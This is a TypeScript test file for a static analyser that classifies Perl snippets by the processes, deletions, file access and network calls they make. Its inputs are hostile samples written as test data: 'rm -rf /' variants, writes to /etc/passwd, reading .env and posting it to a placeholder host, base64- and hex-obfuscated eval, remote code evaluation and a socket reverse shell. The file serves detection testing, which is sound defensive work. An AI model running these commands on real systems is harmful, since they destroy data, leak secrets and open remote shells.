import { describe, expect, it } from "vitest";
import { callsOf, read } from "./reading.ts";

type Case = readonly [code: string, calls: readonly string[]];

const STARTS_PROCESSES: readonly Case[] = [
  ['system("rm -rf /")', ["shell rm -rf /"]],
  ['system "rm", "-rf", "/"', ["spawn rm -rf /"]],
  ["`rm -rf /`", ["shell rm -rf /"]],
  ["my $o = qx{rm -rf /};", ["shell rm -rf /"]],
  ["exec 'rm -rf /'", ["shell rm -rf /"]],
  ['my $x = "rm"; system("$x -rf /");', ["shell rm -rf /"]],
  ['system("rm -rf $ENV{HOME}")', ["shell rm -rf /home/me"]],
  ["system('rm -rf ' . '/')", ["shell rm -rf /"]],
  ["my @c = ('rm', '-rf', '/'); system(@c);", ["spawn rm -rf /"]],
  ['open(F, "|rm -rf /")', ["shell rm -rf /"]],
  ["open(my $fh, '-|', 'rm', '-rf', '/')", ["spawn rm -rf /"]],
  ["CORE::system('id')", ["shell id"]],
  ["eval \"system('rm -rf /')\"", ["shell rm -rf /"]],
  ["eval { system('id') }; print $@", ["shell id"]],
  ['s/x/system("id")/e', ["shell id"]],
  ["system('id') if $x; system('ls') unless $y", ["shell id", "shell ls"]],
  ["&run('id'); sub run { system($_[0]) }", ["shell id"]],
  ["kill 9, -1", ["spawn kill -9 -1"]],
];

const DELETES: readonly Case[] = [
  ['use File::Path qw(rmtree); rmtree("/")', ["delete -r /"]],
  ["use File::Path; File::Path::remove_tree($ENV{HOME})", ["delete -r /home/me"]],
  ['rmtree "$ENV{HOME}/docs";', ["delete -r /home/me/docs"]],
  ['unlink "a", "b" or die', ["delete a", "delete b"]],
  ['unlink glob("*.o")', ["delete *.o"]],
  ["unlink <*.o>", ["delete *.o"]],
  ['unlink for glob "*.log"', ["delete *.log"]],
  ["map { unlink } glob('*.tmp')", ["delete *.tmp"]],
  ["for my $d (qw(a /)) { rmtree($d) }", ["delete -r a", "delete -r /"]],
  ["my @d = ('a', '/'); rmtree(@d);", ["delete -r a", "delete -r /"]],
  ["sub f { my $p = shift; rmtree($p) } f('/etc');", ["delete -r /etc"]],
  ["sub f { my ($a, $p) = @_; rmtree($p) } f(1, '/etc');", ["delete -r /etc"]],
  ["rmtree($x ? 'a' : '/')", ["delete -r a", "delete -r /"]],
  ["chdir('/'); rmtree('etc')", ["directory /", "delete -r /etc"]],
  ["use File::Find; find(sub { unlink $_ }, '.')", ["delete ./**"]],
  ["rmtree(tempdir())", ["delete -r /tmp/#"]],
  ["foreach (@ARGV) { unlink $_ }", ["delete ?"]],
];

const READS_WRITES_AND_RUNS_WHAT_IS_NOT_ITS_OWN: readonly Case[] = [
  ["open(my $fh, '>', '/etc/passwd'); print $fh \"x\";", ["write /etc/passwd", "append /etc/passwd = x"]],
  ['open F, "<.env"; print <F>;', ["read .env"]],
  ["rename 'a', 'b'", ["move a -> b"]],
  ["use LWP::Simple; eval get('http://x')", ["network http://x", "evaluate perl: ?[network]"]],
  [
    "open(my $f, '<', '.env'); my $d = <$f>; LWP::UserAgent->new->post('http://x', Content => $d)",
    ["read .env", "network http://x <- ?[file .env]"],
  ],
  [
    "use MIME::Base64; eval(decode_base64('c3lzdGVtKCJybSAtcmYgLyIp'))",
    ["shell rm -rf /", 'evaluate perl: system("rm -rf /")[decoded]'],
  ],
  ["eval(pack('H*', '73797374656d2822696422 29'))", ["shell id", 'evaluate perl: system("id")[decoded]']],
  [
    "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, $a); open(STDIN, '>&S'); exec('/bin/sh -i');",
    ["network ?", "spawn sh -c /bin/sh -i < ?[network]"],
  ],
  ["open(F, '|-', 'rm', 'x');", ["spawn rm x"]],
  ["open(F, '|-', 'rm x');", ["shell rm x"]],
  ["open(F, '-|', 'rm', 'x');", ["spawn rm x"]],
  ["open(F, 'rm x|');", ["shell rm x"]],
  ["open(F, '|rm x');", ["shell rm x"]],
  ["open(F, '>x'); print F 'a';", ["write x", "append x = a"]],
  ["open(F, '+<x');", ["write x", "read x"]],
  ["open(my $f, '>', 'x'); printf $f '%s', 'b';", ["write x", "append x = b"]],
  ["open(P, '|sh'); print P 'rm -rf /';", ["shell sh", "spawn sh -c sh < rm -rf /"]],
  ["open(P, '|-', 'sh', '-c', 'cat'); printf P 'a%s', 'b';", ["spawn sh -c cat", "spawn sh -c cat < ab"]],
  ["unlink glob('~/x');", ["delete /home/me/x"]],
  ["my $f = path('x'); $f->spew('y'); $f->remove;", ["write x = y", "delete x"]],
];

const HARMLESS: readonly string[] = [
  "print \"system('rm -rf /')\"",
  '# system("rm -rf /")\nprint 1',
  "my $s = 'rm -rf /'; print $s;",
  '=pod\n\nsystem("rm -rf /")\n\n=cut\nprint 1;',
  'print <<EOT;\nsystem("rm -rf /")\nEOT\nprint 2;',
  "print <<'EOT';\nunlink \"a\"\nEOT\n",
  "$_ =~ s/rm -rf/x/g; print;",
  "while (<STDIN>) { print if /rm -rf/ }",
  "my %h = (y => 1, s => 2, system => 'rm -rf /'); print $h{s}",
  "print if -e 'x' and -s $file",
  "print q(unlink 'a'), qq{rmtree '/'}",
  "1;\n__END__\nsystem('rm -rf /')",
  'my $re = qr/system\\(.*\\)/; print "ok" if $x =~ m{rm -rf /}',
  "warn 'rmtree(\"/\")'",
  "printf(\"%s\\n\", 'unlink')",
];

describe("Perl code", () => {
  describe("starts processes", () => {
    it.each(STARTS_PROCESSES)("%j", (code, calls) => {
      expect(callsOf("perl", code)).toEqual(calls);
    });
  });

  describe("deletes", () => {
    it.each(DELETES)("%j", (code, calls) => {
      expect(callsOf("perl", code)).toEqual(calls);
    });
  });

  describe("reads, writes and runs what is not its own", () => {
    it.each(READS_WRITES_AND_RUNS_WHAT_IS_NOT_ITS_OWN)("%j", (code, calls) => {
      expect(callsOf("perl", code)).toEqual(calls);
    });
  });

  describe("prints and matches dangerous words, which is nothing", () => {
    it.each(HARMLESS)("%j", code => {
      expect(callsOf("perl", code)).toEqual([]);
      expect(read("perl", code).isComplete).toBe(true);
    });
  });
});
